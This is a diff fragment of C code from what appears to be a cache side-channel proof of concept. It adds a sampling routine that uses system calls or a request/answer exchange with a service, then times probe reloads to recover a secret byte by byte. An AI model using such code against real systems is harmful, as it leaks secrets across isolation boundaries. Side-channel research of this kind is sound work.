@@ -91,8 +91,34 @@ static inline void prepare_use(int index)
 #define SAMPLE_FOUR_BUFFERS SAMPLE_BUFFER SAMPLE_BUFFER SAMPLE_BUFFER SAMPLE_BUFFER
 #define SAMPLE_BUFFERS SAMPLE_FOUR_BUFFERS SAMPLE_FOUR_BUFFERS SAMPLE_FOUR_BUFFERS
 
+/* A system call, then the loads that sample, for the byte at an index. */
+static void call_and_sample(long number, long first, const void *second, long third, int index);
+
+/*
+ * The service may run as soon as it has been asked, before that call returns, or when its answer is
+ * waited for. So every other time the one call comes right before the loads, or the other.
+ */
+static inline int sample(int index)
+{
+	static int waited;
+	struct service_request request = guess_at(index);
+	uint8_t answer;
+
+	prepare_use(index);
+	if (options.call) {
+		call_and_sample(options.call, 0, NULL, 0, index);
+	} else if ((waited = !waited)) {
+		send_guess(index);
+		call_and_sample(SYS_read, answers_of_service, &answer, 1, index);
+	} else {
+		call_and_sample(SYS_write, requests_to_service, &request, sizeof(request), index);
+		receive_answer();
+	}
+	return reload_probe(probe);
+}
+
 /* Recovers the secret's bytes in order, as each is needed for those behind it. */
-static inline void recover_in_order(int (*sample)(int index))
+static inline void recover_in_order(void)
 {
 	if (options.bytes > MOST_FOUND)
 		errx(2, "expected --bytes up to %d", MOST_FOUND);
